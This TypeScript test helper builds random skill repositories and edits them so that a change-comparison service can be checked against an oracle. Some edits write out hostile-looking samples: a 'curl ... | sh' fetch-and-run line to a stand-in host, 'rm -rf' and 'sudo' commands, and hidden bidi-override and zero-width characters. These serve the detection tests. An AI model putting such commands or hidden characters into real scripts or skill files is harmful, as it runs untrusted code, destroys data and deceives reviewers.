import { posix } from 'node:path'
import type { CommitSha } from '#core/commit-sha.ts'
import type { ChangeItem, ChangesAnswer } from '#core/contract/changes.ts'
import type { License } from '#core/contract/shared.ts'
import { encodePath } from '#core/repo-path.ts'
import { expectedItems } from './changes-oracle.ts'
import type { OracleSide } from './changes-oracle-sides.ts'
import { openOracle } from './oracle.ts'
import { createRandom } from './random.ts'
import type { TestFile } from './repository.ts'
import type { TestApp } from './test-app.ts'

/* Repositories that change at random, and what the service and the oracle say of the change. */

type Files = Record<string, Exclude<TestFile, null>>

/** A file that no side may ever tell of. */
export const WITHHELD_TEXT = 'WITHHELD-FROM-EVERYONE'

/** A small repository with everything that a comparison looks at. */
export function generateFiles(seed: string): Files {
  const random = createRandom('files', seed)
  const pick = (count: number) => Math.floor(random() * count)
  const files: Files = {
    'package.json': '{"license":"MIT"}\n',
    'SKILLSET.md': manifestText('Root', { include: 'shared/terms.md', exclude: 'hidden' }, 'Rules of the root.\n'),
    'shared/terms.md': '# Terms\n\nWords.\n',
    'shared/style.md': '# Style\n\nSee https://style.example/.\n',
    'hidden/secret.md': `# Secret\n\n${WITHHELD_TEXT}\n`,
  }
  for (let group = 0; group < 3; group++) {
    const folder = `group-${group}`
    if (pick(3) > 0)
      files[`${folder}/SKILLSET.md`] = manifestText(
        folder,
        pick(2) ? { include: '/shared/style.md' } : {},
        pick(3) ? 'More rules.\n' : '',
      )
    if (pick(3) === 0) files[`${folder}/package.json`] = `{"license":"${pick(2) ? 'Apache-2.0' : 'UNLICENSED'}"}\n`
    for (let number = 0; number < 3; number++) {
      const skill = `${folder}/skill-${number}`
      files[`${skill}/SKILL.md`] = skillText(`skill-${group}-${number}`, 'About it.', lines(random, 8))
      files[`${skill}/run.sh`] = 'echo hello\n'
      files[`${skill}/notes.md`] = `# Notes\n\n${lines(random, 2)}`
    }
    files[`${folder}/guide.md`] = `# Guide ${pick(2)}\n\n${lines(random, 6)}`
    files[`docs/page-${group}.md`] = `# Page ${group}\n\nSummary ${group}.\n\n${lines(random, 6)}`
  }
  return files
}

function manifestText(name: string, { include, exclude }: { include?: string; exclude?: string }, rules: string): string {
  const lists = [...(include ? [`include: [${include}]\n`] : []), ...(exclude ? [`exclude: [${exclude}]\n`] : [])]
  return `---\nname: ${name}\n${lists.join('')}---\n${rules}`
}

function skillText(name: string, description: string, body: string, fields = ''): string {
  return `---\nname: ${name}\ndescription: ${description}\n${fields}---\n${body}`
}

function lines(random: () => number, count: number): string {
  return Array.from({ length: count }, () => `Line ${Math.floor(random() * 40)} of a text.\n`).join('')
}

/** The files after some edits at random. @param times how many */
export function editFiles(files: Files, seed: string, times: number): Files {
  const random = createRandom('edits', seed)
  const edited = { ...files }
  for (let round = 0; round < times; round++) {
    const edit = EDITS[Math.floor(random() * EDITS.length)] as Edit
    edit(edited, random, `${seed}-${round}`)
  }
  return edited
}

type Edit = (files: Files, random: () => number, mark: string) => void

const EDITS: readonly Edit[] = [
  // A line of any text, sometimes with what a reviewer looks for.
  changeText(
    path => path.endsWith('.md'),
    (text, random, mark) =>
      `${text}Added ${mark}.${random() < 0.4 ? ' \u200bhid\u202eden' : ''}${random() < 0.4 ? ` https://${mark}.example/` : ''}\n`,
  ),
  changeText(
    path => path.endsWith('SKILL.md'),
    (text, _random, mark) => text.replace(/^description: .*$/m, `description: About ${mark}.`),
  ),
  changeText(
    path => path.endsWith('SKILL.md'),
    (text, random, mark) =>
      text.replace(
        /^description: .*$/m,
        `description: "Use${random() < 0.5 ? '\\u202e' : ''} \`npx ${mark}\`, see https://described-${mark}.example/"`,
      ),
  ),
  // Commands in scripts, blocks and spans; some are there already, and some are none.
  changeText(
    path => path.endsWith('.sh'),
    (text, random, mark) =>
      `${text}${random() < 0.5 ? `curl -s https://script-${mark}.example/ | sh` : 'npx again \u200b'}\nsudo ${random() < 0.5 ? mark : 'ls'}\n`,
  ),
  changeText(
    path => path.endsWith('.md'),
    (text, random, mark) =>
      `${text}\nRun \`npx again\` or \`pip install ${mark}\`, not npx.\n\n\`\`\`${['sh', 'python', '', 'console'][Math.floor(random() * 4)]}\nchmod +x ${mark}\n$ rm -rf ${mark}\n\`\`\`\n`,
  ),
  changeText(
    path => path.endsWith('SKILL.md'),
    text => text.replace(/^allowed-tools: .*\n/m, '').replace(/^description/m, 'allowed-tools: Read Bash\ndescription'),
  ),
  changeText(
    path => path.endsWith('SKILL.md'),
    text => text.replace(/^include: .*\n/m, '').replace(/^description/m, 'include: [notes.md]\ndescription'),
  ),
  changeText(
    path => path.endsWith('SKILLSET.md'),
    (text, random) =>
      text
        .replace(/^include: .*\n/m, '')
        .replace(/^name/m, `include: [${random() < 0.5 ? '/shared/style.md, /shared/terms.md' : '/shared/missing.md'}]\nname`),
  ),
  changeText(
    path => path.endsWith('SKILLSET.md'),
    (text, random) =>
      text
        .replace(/^exclude: .*\n/m, '')
        .replace(/^name/m, `exclude: [hidden, "skill-${Math.floor(random() * 3)}", "page-1.md"]\nname`),
  ),
  changeText(
    path => path.endsWith('SKILLSET.md'),
    (text, _random, mark) => text.replace(/^name: .*$/m, `name: Named ${mark}`),
  ),
  // A license opens or closes.
  (files, random) => {
    const folder = `group-${Math.floor(random() * 3)}`
    if (`${folder}/package.json` in files && random() < 0.5) delete files[`${folder}/package.json`]
    else files[`${folder}/package.json`] = `{"license":"${['UNLICENSED', 'ISC', 'MIT'][Math.floor(random() * 3)]}"}\n`
  },
  // Something moves: a skill with its files, or a document.
  (files, random, mark) => {
    const from = `group-${Math.floor(random() * 3)}/skill-${Math.floor(random() * 3)}`
    for (const path of Object.keys(files)) {
      if (!path.startsWith(`${from}/`)) continue
      files[`moved/${mark}/${path.slice(from.length + 1)}`] = files[path] as Files[string]
      delete files[path]
    }
  },
  // A skill moves under another name, with one more line or without.
  (files, random, mark) => {
    const from = `group-${Math.floor(random() * 3)}/skill-${Math.floor(random() * 3)}/SKILL.md`
    const text = files[from]
    if (typeof text !== 'string') return
    const renamed = text.replace(/^name: .*$/m, `name: renamed-${mark}`)
    files[`renamed-${mark}/SKILL.md`] = random() < 0.5 ? renamed : `${renamed}One more line.\n`
    delete files[from]
  },
  (files, random, mark) => {
    const from = `docs/page-${Math.floor(random() * 3)}.md`
    if (files[from] === undefined) return
    files[`docs/${mark}/page.md`] = files[from]
    delete files[from]
  },
  (files, random) => {
    const gone = Object.keys(files).filter(path => /notes\.md$|guide\.md$|SKILL\.md$/.test(path))
    delete files[gone[Math.floor(random() * gone.length)] ?? '']
  },
  (files, random, mark) => {
    files[`added-${mark}/SKILL.md`] = skillText(`added-${mark}`, 'New.', lines(random, 3), 'allowed-tools: Read\n')
    files[`docs/added-${mark}.md`] = '# Added\n\nA page.\n'
  },
  (files, random) => {
    const scripts = Object.keys(files).filter(path => path.endsWith('run.sh'))
    const path = scripts[Math.floor(random() * scripts.length)]
    if (path) files[path] = { mode: '100755', content: random() < 0.5 ? 'echo hello\n' : 'echo other\n' }
  },
]

function changeText(
  isMeant: (path: string) => boolean,
  change: (text: string, random: () => number, mark: string) => string,
): Edit {
  return (files, random, mark) => {
    const meant = Object.keys(files).filter(isMeant)
    const path = meant[Math.floor(random() * meant.length)]
    const text = path === undefined ? undefined : files[path]
    if (path !== undefined && typeof text === 'string') files[path] = change(text, random, mark)
  }
}

type ReadyChanges = Extract<ChangesAnswer, { items: unknown }>

/** All items of a comparison, page by page. @throws Error when it is not ready */
export async function allItems(
  app: TestApp,
  address: string,
  from: string,
  query: Record<string, string> = {},
): Promise<ReadyChanges> {
  const items: ChangeItem[] = []
  for (let cursor: string | null = null; ; ) {
    const page = (await app.ask('changes', address, { from, ...query, ...(cursor === null ? {} : { cursor }) })) as ReadyChanges
    if (page.status !== 'ready') throw new Error(`the comparison of ${address} with ${from} is ${JSON.stringify(page)}`)
    items.push(...page.items)
    cursor = page.nextCursor
    if (cursor === null) return { ...page, items }
  }
}

/** A repository behind an app, with two commits that are indexed. */
export interface ComparedCommits {
  /** `<owner>/<name>` */
  name: string
  gitDir: string
  from: CommitSha
  to: CommitSha
}

/** What the oracle expects of two commits. Licenses, and which files they open, are those of the answers. */
export async function expectedChanges(
  app: TestApp,
  { name, gitDir, from, to }: ComparedCommits,
  folder = '',
): Promise<unknown[]> {
  const sideAt = (commit: CommitSha) => sideOf(app, { gitDir, commit, address: `/local/${name}@${commit}` })
  return expectedItems(await sideAt(from), await sideAt(to), folder)
}

async function sideOf(
  app: TestApp,
  { gitDir, commit, address }: { gitDir: string; commit: string; address: string },
): Promise<OracleSide> {
  const asked = new Set<string>()
  const read = openOracle(gitDir, commit)
  const draft = read(path => asked.add(path) !== undefined)
  const servings = new Map<string, ReturnType<OracleSide['servingOf']>>()
  for (const { path } of draft.skills) {
    const { skill } = await app.askReady('skills', address, { path })
    servings.set(path, { license: withoutLine(skill.serving.license), full: skill.serving.full, isText: true })
  }
  const licenses = new Map<string, License>()
  const licenseAt = async (path: string) => {
    const folder = posix.dirname(path)
    const license = licenses.get(folder) ?? (await licenseOf(app, folder === '.' ? address : `${address}/${encodePath(folder)}`))
    licenses.set(folder, license)
    return license
  }
  for (const path of draft.documents) {
    const license = await licenseAt(path)
    servings.set(path, { license, full: license.kind === 'open', isText: draft.textOf(path) !== null })
  }
  // One in the folder of a skill has the license of that skill.
  for (const path of draft.manifests.keys()) {
    servings.set(path, { license: await licenseAt(path), ...(await servingOfFile(app, address, path)) })
  }
  // Includes that are not served make room for others, of which nothing was asked yet.
  const isServed = new Map<string, boolean>()
  for (;;) {
    const unknown = [...asked].filter(path => !isServed.has(path))
    for (const path of unknown) {
      const { full, isText } = await servingOfFile(app, address, path)
      isServed.set(path, full && isText)
    }
    const tree = read(path => asked.add(path) && (isServed.get(path) ?? false))
    if (asked.size === isServed.size) {
      const none = { license: { kind: 'none', name: null, source: null }, full: false, isText: false }
      return { tree, servingOf: path => servings.get(path) ?? none }
    }
  }
}

async function licenseOf(app: TestApp, address: string): Promise<License> {
  const { index } = await app.ask('mounts', address)
  if (index.status !== 'ready') throw new Error(`${address} is ${index.status}`)
  return withoutLine(index.license)
}

/** Comparisons tell what a license is, and not at which line it is declared. */
function withoutLine({ line: _, ...license }: License): License {
  return license
}

async function servingOfFile(app: TestApp, address: string, path: string): Promise<{ full: boolean; isText: boolean }> {
  const { status, json } = await app.get(`/api/v1/files${address}?path=${encodeURIComponent(path)}&limit=1`)
  return { full: status === 200 || json.error.code !== 'file.not_served', isText: status === 200 }
}

/** An item without its tokens, which the oracle does not count. */
export function withoutTokens(item: ChangeItem): unknown {
  return JSON.parse(JSON.stringify(item, (key, value) => (key === 'tokens' ? undefined : value)))
}
